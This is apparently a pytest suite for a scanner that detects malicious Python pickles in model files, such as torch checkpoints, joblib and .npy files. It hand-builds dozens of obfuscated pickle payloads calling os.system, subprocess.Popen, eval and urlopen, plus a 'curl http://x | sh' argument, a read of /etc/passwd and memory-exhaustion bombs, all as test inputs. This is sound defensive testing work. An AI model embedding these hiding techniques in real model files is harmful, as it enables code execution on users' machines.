"""Pickles: what is imported, called and changed, whatever the stream does to hide it."""

from __future__ import annotations

import io
import pickle
import struct
import zlib
from collections import Counter, OrderedDict, defaultdict, deque
from datetime import UTC, datetime
from decimal import Decimal
from functools import partial
from operator import attrgetter, itemgetter
from pathlib import PurePosixPath
from random import Random
from uuid import UUID

import pytest

from tests.build.pickles import (
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    OBJ,
    POP,
    REDUCE,
    SETITEMS,
    STACK_GLOBAL,
    STOP,
    call,
    command,
    literal,
    name,
    number,
    row,
    stream,
    text,
)

SYSTEM, ECHO = name("os", "system"), text("echo canary")


@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
def test_a_command_in_every_protocol(look, protocol):
    found = look(command(protocol))
    assert found.level == "dangerous"
    assert "'echo canary'" in found.findings[0].message
    assert found.findings[0].because[0].location.start is not None


HIDDEN = {
    "the result is dropped": call(SYSTEM, ECHO) + POP + b"N",
    "INST": MARK + ECHO + b"ios\nsystem\n",
    "OBJ": MARK + SYSTEM + ECHO + OBJ,
    "NEWOBJ": name("subprocess", "Popen") + row(ECHO) + NEWOBJ,
    "NEWOBJ_EX": name("subprocess", "Popen") + row(ECHO) + EMPTY_DICT + NEWOBJ_EX,
    "the name comes from the memo": text("os") + MEMOIZE + POP + text("system") + MEMOIZE + POP + b"h\x00h\x01" + STACK_GLOBAL + row(ECHO) + REDUCE,
    "the name is doubled": text("code") + DUP + POP + text("InteractiveInterpreter") + STACK_GLOBAL + EMPTY_TUPLE + REDUCE,
    "a memo entry is overwritten": text("json") + b"q\x00" + POP + text("os") + b"q\x00" + POP + b"h\x00" + text("system") + STACK_GLOBAL + row(ECHO) + REDUCE,
    "getattr on a module": call(call(name("builtins", "getattr"), name("os", "path"), text("system")), ECHO),
    "a name with dots": call(name("torch", "serialization.os.system"), ECHO),
    "a class's method by dots": call(name("collections", "OrderedDict.__class__"), ECHO),
    "partial of an attack": call(name("functools", "partial"), SYSTEM, ECHO),
    "a factory that attacks": call(name("collections", "defaultdict"), SYSTEM),
    "methodcaller": call(call(name("operator", "methodcaller"), text("system"), ECHO), name("os", "path")),
    "reduce over a list": call(name("functools", "reduce"), SYSTEM, row(ECHO)),
    "attrgetter of a dunder": call(name("operator", "attrgetter"), text("__class__.__base__")),
    "eval of a text": call(name("builtins", "eval"), text("1+1")),
    "a file is read": call(name("numpy", "fromfile"), text("/etc/passwd")),
    "unknown function, telling argument": call(name("some_lib.tools", "do"), text("curl http://x | sh")),
    "unknown function": call(name("some_lib.tools", "do"), number(1)),
    "an address is opened": call(name("urllib.request", "urlopen"), text("http://host.invalid/")),
    "code object": call(name("types", "CodeType"), number(0)),
    "extension registry": b"\x82\x01" + EMPTY_TUPLE + REDUCE,
    "the name is made by a call": call(name("builtins", "str"), call(name("builtins", "getattr"), text("x"), text("upper"))) + text("system") + STACK_GLOBAL,
    "an import is rewritten": name("numpy", "size") + EMPTY_DICT + MARK + text("__code__") + number(1) + SETITEMS + BUILD,
    "a function gets items": name("collections", "OrderedDict") + MARK + text("a") + number(1) + SETITEMS,
    "what a call gave is called": call(call(name("functools", "partial"), name("builtins", "len")), number(1)),
    "a bound method is called": call(call(name("builtins", "getattr"), call(name("collections", "OrderedDict")), text("update")), number(1)),
    "python 2's name": b"c__builtin__\neval\n" + row(ECHO) + REDUCE,
}  # fmt: skip


@pytest.mark.parametrize("how", HIDDEN)
def test_ways_to_hide_a_call(look, how):
    protocol = 2 if how == "python 2's name" else 4
    assert look(stream(HIDDEN[how], protocol)).level == "dangerous", how


def test_findings_survive_what_comes_after(look):
    assert look(stream(call(SYSTEM, ECHO))[:-1]).level == "dangerous"
    assert look(stream(call(SYSTEM, ECHO))[:-1] + b"\xff\xff").level == "dangerous"
    broken = look(b"\x80\x04" + name("collections", "OrderedDict") + b"\xff")
    assert (broken.level, len(broken.gaps)) == ("caution", 1)


def test_a_second_stream_is_found(look):
    benign = pickle.dumps([1, 2, 3])
    for between in (b"", b"\0" * 100, b"padding"):
        found = look(benign + between + command())
        assert found.level == "dangerous", between
    assert look(benign + b"\0" * 4096).level == "clean"


def test_frames_that_lie(look):
    body = call(SYSTEM, ECHO) + STOP
    straddle = b"\x80\x04\x95" + struct.pack("<Q", 3) + body
    assert any(item.rule == "pickle-reads-the-same-everywhere" for item in look(straddle).findings)
    assert look(b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + body).level == "dangerous"


BENIGN = [
    {"a": [1, 2.5, None, True, "x" * 300, b"y" * 300, (1, 2, 3, 4)], 5: {6}},
    OrderedDict(a=1), Counter("abca"), deque([1], 5), defaultdict(list, a=[1]), datetime(2024, 1, 1, tzinfo=UTC),
    Decimal("1.1"), PurePosixPath("/etc/passwd"), UUID(int=5), Random(1), partial(len, [1]), attrgetter("a.b"),
    itemgetter(1), range(10), complex(1, 2), frozenset([1]), slice(1, 2), bytearray(b"abc"), 2**200, -(2**70),
    ["os.system", "cos\nsystem\n", "eval(", "__import__('os')"], ValueError("x"), OrderedDict, dict.fromkeys,
]  # fmt: skip


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize("value", BENIGN, ids=repr)
def test_what_the_standard_library_writes_is_clean(look, value, protocol):
    found = look(pickle.dumps(value, protocol))
    assert (found.level, found.gaps) == ("clean", ()), [item.message for item in found.findings]


def tensor(key: str) -> bytes:
    """What torch writes for one tensor."""
    storage = row(text("storage"), name("torch", "FloatStorage"), text(key), text("cpu"), number(4)) + b"Q"
    hooks = call(name("collections", "OrderedDict"))
    return call(
        name("torch._utils", "_rebuild_tensor_v2"),
        storage,
        number(0),
        row(number(4)),
        row(number(1)),
        b"\x89",
        hooks,
    )


def test_a_state_dict_is_clean_and_loads_with_weights_only(look):
    body = EMPTY_DICT + MARK + text("w") + tensor("0") + text("b") + tensor("1") + SETITEMS
    found = look(stream(body, 2), "archive!/data.pkl")
    assert (found.level, found.findings) == ("clean", ())
    full = call(
        name("copyreg", "_reconstructor"),
        name("torch.nn.modules.linear", "Linear"),
        name("builtins", "object"),
        b"N",
    )
    found = look(stream(full), "model.pt!/data.pkl")
    assert found.level == "clean"
    assert [item.rule for item in found.findings] == ["pickle-loads-with-weights-only"]


def test_a_class_that_nobody_reviewed_is_caution_and_never_clean(look):
    found = look(stream(call(name("my_package.models", "Net"))))
    assert (found.level, found.findings[0].rule) == ("caution", "pickle-imports-are-reviewed")


def test_a_stream_inside_is_followed(look):
    inner = command(2)
    found = look(stream(call(name("torch.storage", "_load_from_bytes"), literal(inner))))
    assert found.level == "dangerous"
    assert any("bytes-at" in str(item.because[0].location) for item in found.findings)


def wrapper(dtype: str, shape: tuple[int, ...]) -> bytes:
    """joblib's array wrapper: its bytes follow its state."""
    state = EMPTY_DICT + MARK + text("shape") + row(*map(number, shape)) + text("dtype") + call(name("numpy", "dtype"), text(dtype)) + SETITEMS  # fmt: skip
    return name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD


def test_arrays_inside_joblib_are_stepped_over_and_what_follows_is_seen(look):
    body = EMPTY_LIST + MARK + wrapper("f8", (2, 3)) + bytes(48)
    assert look(stream(body + b"e"), "x.joblib").level == "clean"
    assert look(stream(body + call(SYSTEM, ECHO) + b"e"), "x.joblib").level == "dangerous"
    objects = MARK + EMPTY_LIST + wrapper("O8", (1,)) + command(2)
    assert look(stream(EMPTY_LIST + objects + b"e"), "x.joblib").level == "dangerous"
    packed = zlib.compress(stream(body + call(SYSTEM, ECHO) + b"e"))
    assert look(packed, "x.joblib").level == "dangerous"


def test_arrays_of_objects(look):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    assert look(npy + command(3), "x.npy").level == "dangerous"
    assert look(npy + pickle.dumps([1]), "x.npy").level == "clean"


@pytest.mark.parametrize(
    "path", ["model.bin", "weights.dat", "noext", "data.txt", "model.safetensors", "x.h5"]
)
@pytest.mark.parametrize("protocol", [0, 4])
def test_bytes_decide_and_not_the_name(look, path, protocol):
    assert look(command(protocol), path).level == "dangerous"


def test_words_in_a_text_are_no_pickle(look):
    assert look("cos\nsystem\nis how a pickle names os.system\n", "notes.txt").level == "clean"


LAUGHS = b"".join(
    b"](" + b"h%c" % (i - 1) * 10 + b"e" + b"q" + bytes([i]) if i else b"]q\x00" for i in range(12)
)


@pytest.mark.parametrize(
    "body",
    [
        number(1) + (DUP + b"\x86") * 60,
        MARK * 200_000 + b"t" * 200_000,
        LAUGHS,
        number(1) + b"r\xff\xff\xff\x7f" + call(name("builtins", "len"), text("x")),
        call(name("builtins", "bytearray"), number(2**31 - 1)),
        call(name("builtins", "pow"), number(7), call(name("builtins", "pow"), number(9), number(99))),
    ],
    ids=["tuples", "marks", "laughs", "memo", "allocation", "power"],
)
def test_a_few_bytes_that_ask_for_gigabytes_are_named(look, body):
    assert look(stream(body)).level in {"caution", "dangerous"}


def test_a_legacy_checkpoint_is_five_streams_and_numbers(look):
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    rest = pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    body = magic + rest + stream(tensor("0"), 2) + pickle.dumps(["0"], 2) + bytes(64)
    assert look(body, "old.pt").level == "clean"
    evil = magic + rest + command(2) + pickle.dumps(["0"], 2)
    assert look(evil, "old.pt").level == "dangerous"


def test_a_real_pickler_with_persistent_ids(look):
    class Pickler(pickle.Pickler):
        def persistent_id(self, value: object) -> object:
            return ("other", 1) if value == "x" else None

    out = io.BytesIO()
    Pickler(out, 4).dump(["x"])
    assert [item.rule for item in look(out.getvalue()).findings] == ["pickle-needs-no-loader-of-its-own"]
